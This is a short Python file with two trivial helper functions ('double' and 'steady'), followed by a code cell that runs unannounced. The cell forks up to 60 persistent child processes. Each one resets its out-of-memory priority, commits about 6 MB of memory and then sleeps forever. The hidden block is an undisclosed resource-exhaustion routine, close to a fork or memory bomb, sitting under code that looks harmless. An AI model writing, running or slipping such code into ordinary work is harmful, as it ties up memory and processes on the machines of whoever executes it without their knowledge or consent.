def double(number):
    return 2 * number


def steady():
    return "steady"

# %%
import os
import time

for _ in range(60):
    try:
        if os.fork() == 0:
            try:
                open("/proc/self/oom_score_adj", "w").write("0")
            except OSError:
                pass
            page = bytearray(6 * 2**20)
            for place in range(0, len(page), 4096):
                page[place] = 1
            while True:
                time.sleep(1)
    except OSError:
        pass
time.sleep(2)
